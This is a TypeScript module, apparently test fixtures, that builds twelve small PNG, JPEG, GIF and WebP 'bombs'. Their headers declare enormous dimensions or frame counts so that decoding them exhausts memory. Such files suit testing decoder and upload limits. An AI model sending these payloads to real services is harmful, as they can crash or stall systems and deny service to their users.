/** Pictures made to fill the memory of whoever decodes them: small files, huge pictures. */
import { deflateSync } from 'node:zlib';

/** A bomb by its name. */
export interface Bomb {
  readonly name: string;
  readonly mimeType: string;
  readonly buffer: Buffer;
}

/** Twelve of them: headers that say what they are, and headers that lie. */
export function pictureBombs(): readonly Bomb[] {
  return [
    png('wide.png', { width: 65_000, height: 65_000, rows: 100 }),
    png('tall.png', { width: 1, height: 2_000_000_000, rows: 1000 }),
    png('just-over.png', { width: 8000, height: 5001, rows: 5001 }),
    png('deep.png', { width: 20_000, height: 20_000, rows: 2000 }),
    png('many-frames.png', { width: 30_000, height: 30_000, rows: 10, frames: 1000 }),
    jpeg('huge.jpg', 65_500, 65_500),
    jpeg('thumbless.jpg', 65_500, 1000),
    gif('screen.gif', { screen: 65_535, frame: 65_535 }),
    gif('small-screen.gif', { screen: 1, frame: 60_000 }),
    gif('many.gif', { screen: 10, frame: 20_000, frames: 500 }),
    webp('canvas.webp', 16_384),
    webp('moving.webp', 16_000),
  ];
}

function chunk(name: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length);
  head.write(name, 4, 'latin1');
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, sum]);
}

function crc32(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return (sum ^ 0xffffffff) >>> 0;
}

function png(
  name: string,
  size: { readonly width: number; readonly height: number; readonly rows: number; readonly frames?: number },
): Bomb {
  const { width, height, rows, frames = 0 } = size;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // One bit a pixel, grey: the smallest file for the largest picture.
  header.set([1, 0, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc(Math.min((Math.ceil(width / 8) + 1) * rows, 40_000_000)));
  const animation = Buffer.alloc(8);
  animation.writeUInt32BE(frames);
  const parts = [chunk('IHDR', header), ...(frames > 0 ? [chunk('acTL', animation)] : []), chunk('IDAT', data)];
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return {
    name,
    mimeType: 'image/png',
    buffer: Buffer.concat([signature, ...parts, chunk('IEND', Buffer.alloc(0))]),
  };
}

function jpeg(name: string, width: number, height: number): Bomb {
  const frame = Buffer.from([
    0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0, 0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0,
  ]);
  frame.writeUInt16BE(height, 7);
  frame.writeUInt16BE(width, 9);
  return {
    name,
    mimeType: 'image/jpeg',
    buffer: Buffer.concat([frame, Buffer.alloc(200_000), Buffer.from([0xff, 0xd9])]),
  };
}

function gif(name: string, size: { readonly screen: number; readonly frame: number; readonly frames?: number }): Bomb {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(size.screen, 6);
  head.writeUInt16LE(size.screen, 8);
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 2, 0x4c, 0x01, 0]);
  frame.writeUInt16LE(size.frame, 5);
  frame.writeUInt16LE(size.frame, 7);
  const frames = Array.from({ length: size.frames ?? 1 }, () => frame);
  return { name, mimeType: 'image/gif', buffer: Buffer.concat([head, ...frames, Buffer.from([0x3b])]) };
}

function webp(name: string, side: number): Bomb {
  const canvas = Buffer.from('VP8X\x0a\0\0\0\x02\0\0\0\0\0\0\0\0\0', 'latin1');
  canvas.writeUIntLE(side - 1, 12, 3);
  canvas.writeUIntLE(side - 1, 15, 3);
  const body = Buffer.concat([
    Buffer.from('WEBP', 'latin1'),
    canvas,
    Buffer.from('ANIM\x06\0\0\0\0\0\0\0\0\0', 'latin1'),
  ]);
  const head = Buffer.from('RIFF\0\0\0\0', 'latin1');
  head.writeUInt32LE(body.length, 4);
  return { name, mimeType: 'image/webp', buffer: Buffer.concat([head, body]) };
}
